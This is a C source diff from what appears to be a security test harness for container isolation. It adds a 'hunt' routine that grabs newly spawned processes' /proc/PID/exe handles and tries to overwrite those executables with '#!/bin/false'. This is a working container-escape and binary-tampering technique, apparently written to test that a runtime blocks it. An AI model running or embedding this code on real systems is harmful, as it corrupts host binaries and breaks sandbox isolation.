@@ -145,6 +145,49 @@ static int ruin(const char *path)
 	return 0;
 }
 
+static int same_file(int fd, const char *path)
+{
+	struct stat a, b;
+	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
+}
+
+/* hunt: hold the executable of everything that comes, and try to open it for writing when it is not busy any more, until
+ * /stop is there. */
+static int hunt(void)
+{
+	static int held[64];
+	char path[64];
+	int n = 0, met = 0, next = getpid() + 1;
+	while (access("/stop", F_OK) != 0) {
+		for (int pid = next, end = next + 8; pid < end && n < 64; pid++) {
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			int fd = open(path, O_RDONLY | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			next = pid;
+			if (same_file(fd, "/bin/busybox") || same_file(fd, "/bin/attack")) {
+				close(fd);
+				continue;
+			}
+			held[n++] = fd;
+			met++;
+		}
+		for (int i = 0; i < n; i++) {
+			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+			int out = open(path, O_WRONLY | O_CLOEXEC);
+			if (out < 0)
+				continue;
+			if (write(out, "#!/bin/false\n", 13) == 13)
+				printf("got to write\n");
+			close(out);
+			close(held[i]);
+			held[i--] = held[--n];
+		}
+	}
+	printf("met %d\n", met);
+	return 0;
+}
+
 /* datagrams SOCKET: what a service must not say to the manager on the other side, and what nobody should. */
 static int datagrams(const char *path)
 {
@@ -182,6 +225,8 @@ int main(int argc, char **argv)
 		return exchange(argv[2], argv[3]);
 	if (strcmp(verb, "ruin") == 0 && argc == 3)
 		return ruin(argv[2]);
+	if (strcmp(verb, "hunt") == 0)
+		return hunt();
 	if (strcmp(verb, "datagrams") == 0)
 		return datagrams(getenv("NOTIFY_SOCKET"));
 	if (access("/rt-marker", F_OK) == 0 || strcmp(verb, "where") == 0) {
